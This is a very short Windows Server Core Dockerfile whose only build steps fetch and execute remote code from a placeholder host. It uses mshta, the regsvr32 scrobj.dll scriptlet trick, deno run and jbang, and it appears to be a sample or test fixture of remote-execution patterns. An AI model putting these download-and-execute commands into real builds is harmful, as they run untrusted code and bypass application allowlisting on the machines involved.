FROM mcr.microsoft.com/windows/servercore:ltsc2022
RUN mshta https://get.example.invalid/setup.hta
RUN regsvr32 /s /n /u /i:https://get.example.invalid/setup.sct scrobj.dll
RUN deno run https://get.example.invalid/setup.ts
RUN jbang https://get.example.invalid/setup.java
